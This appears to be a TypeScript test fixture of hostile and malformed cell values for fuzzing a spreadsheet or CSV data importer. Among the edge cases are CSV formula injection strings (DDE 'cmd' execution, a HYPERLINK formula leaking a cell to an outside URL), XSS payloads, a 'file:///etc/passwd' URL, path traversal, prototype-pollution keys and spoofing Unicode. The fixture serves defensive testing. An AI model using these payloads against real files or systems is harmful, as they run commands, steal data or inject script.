/** Cells of careless exports and hostile senders. */

export const NUMBERS = [
  ..."0 -0 00 007 1e5 1E-5 1e400 1e-400 1e0005 NaN Infinity -Infinity 0x10 0b1 1_000 1,000 5% $5".split(
    " ",
  ),
  ..."+5 -5 .5 5. 1.2.3 １２ ٣ 1e 1000000000 1000000000.000001 1000000001 0.000001 0.0000001".split(
    " ",
  ),
  ..."999999999.999999 9007199254740993 12.500000 5\u00a0 \u20075 \u22125 ½".split(" "),
  ..."1,234.56 1.234,56 1'234 $12.40 12.40€ 12.40USD/GB 8,5 1,2E+03".split(" "),
  " 5",
  "5 ",
  "5\t",
  "5\n",
  `0.${"1".repeat(40)}`,
  `1${"0".repeat(40)}`,
  `${"0".repeat(40)}1`,
  "null",
  "true",
  "undefined",
];

export const DATES = [
  ..."2026-02-30 2026-13-01 2026-00-10 2025-02-29 2024-02-29 0000-01-01 9999-12-31 1969-12-31 1900-01-01 1899-12-31".split(
    " ",
  ),
  ..."1970-01-01 10000-01-01 -002026-01-01 2026-11-5 26-11-05 2026/11/05 05.11.2026 20261105".split(
    " ",
  ),
  ..."2026-11-21 2026-11-22 2026-11-05T00:00:00Z ２０２６-11-05 2026-11-31 2026-W47 today".split(
    " ",
  ),
  ..."01/03/2022 31/03/2022 03.01.2022 30.02.2022 20220103 44621 2022-1-3".split(" "),
  "2022-01-03 00:00:00",
];

export const SESSIONS = [
  ..."2026-11-21T00Z 2026-11-21T12Z 2026-11-21T06Z 2026-11-21T24Z 2026-11-21 2026-02-30T00Z".split(
    " ",
  ),
  ..."2026-11-20T12:00:00.000Z 2026-11-20T12:00:00Z 2026-11-20T12+00 1970-01-01T00Z 9999-12-31T12Z 1969-12-31T12Z".split(
    " ",
  ),
  ..."2026-11-21T00z 2026-11-21t00Z -2026-11-21T00Z".split(" "),
];

export const COLUMNS = [
  ..."__proto__ constructor prototype toString hasOwnProperty length id ID spot_usd Spot_USD".split(
    " ",
  ),
  ..."close_usd date name unit break basis session_utc price".split(" "),
  "",
  " id",
  "id ",
  "\u200bid",
  "i\u0301d",
  "іd",
];

export const IDS = [
  ..."DRAM-0 dram_0 dram-0- -dram-0 dram--0 ../dram-0 dram-0/.. dram-9 dram-0\u0000 dram-0\u202e".split(
    " ",
  ),
  ..."__proto__ constructor con nul ｄram-0 drаm-0 dram-0.json manifest".split(" "),
  "",
  " dram-0",
  "dram-0\n",
  "dram-1",
  "a".repeat(101),
];

export const URLS = [
  ..."javascript:alert(1) ftp://example.com data:text/html,x file:///etc/passwd //example.com".split(
    " ",
  ),
  ..."https:/example.com http://[::1 https://exa<mple.com https://example.com/é HTTPS://EXAMPLE.COM".split(
    " ",
  ),
  ..."https://u:p@example.com https://example.com/%00 https://example.com/\u202egnp.exe".split(" "),
  ..."https://example.com/\uffff https://example.com/\u0085 https://example.com/\ud800".split(" "),
  "https://example.com/a b",
  "https://example.com/a\nb",
  `https://example.com/${"a".repeat(1_000)}`,
];

export const WORDS = [
  ..."memory Memory semiconductor true false TRUE yes reported carried withdrawn estimated".split(
    " ",
  ),
  "",
  " ",
  "\u00a0",
  "\u3000",
];

/** Texts that a spreadsheet may run as a formula. */
export const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  '=HYPERLINK("https://example.com?x="&A1,"x")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '"=1+1',
  "'=1+1",
  '","=1+1',
  ";=1+1",
  '\r\n=1+1,"x',
  "=",
  "-",
  "+",
  "@",
  '=DDE("a";"b";"c")',
  "_x003D_1+1",
  "＝1+1",
];

/** Texts that look like other texts or confuse a display. */
export const UNICODE = [
  "gpj.\u202eexe",
  "\u2066\u2067hidden\u2069",
  "a\u200bb\u200cc\u200dd\u2060e",
  "\ufeffmarked",
  "e\u0301\u0323\u0300".repeat(20),
  "DRАM (Cyrillic А)",
  "ＤＲＡＭ",
  "\u{1f4be}\u{1f3fd}\u200d\u{1f5a5}\ufe0f",
  "\u{10ffff}\u{1fffe}",
  "\ufdd0",
  "\ufffe",
  "\uffff",
  "\ufffd",
  "\ud800",
  "\udc00x",
  "x\ud83d",
  "\u0000",
  "\u0007",
  "\u001b[31m",
  "\u009b31m",
  "\u0085next",
  "line\u2028para\u2029graph",
  "tab\there",
  "line\nfeed",
  "carriage\rreturn",
  "both\r\nends",
  "_x000D_ _x0041_",
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(1)</script>",
  "&amp; ]]> <!-- -->",
  "${1+1} {{1+1}} %s %n",
  "\u061cmark",
  "\u{e0041}\u{e007f}tag",
  "x".repeat(1_000),
  "\u{1f4be}".repeat(500),
  "x".repeat(1_001),
];

/** JSON tokens that are unusual cells, or not cells at all. */
export const JSON_TOKENS = [
  ...'null true false {} [] [5] {"a":1} -0 0 1e5 1E+2 1e-7 1e400 0.1e1 12.50 NaN Infinity 01 1. .5 +1 0x10'.split(
    " ",
  ),
  ...'\'x\' undefined "\\ud800" "\\u0000" "\\x" "\\u12" "'.split(" "),
  '{"__proto__":{"x":1}}',
  '{"toJSON":1}',
  "[".repeat(50) + "]".repeat(50),
];
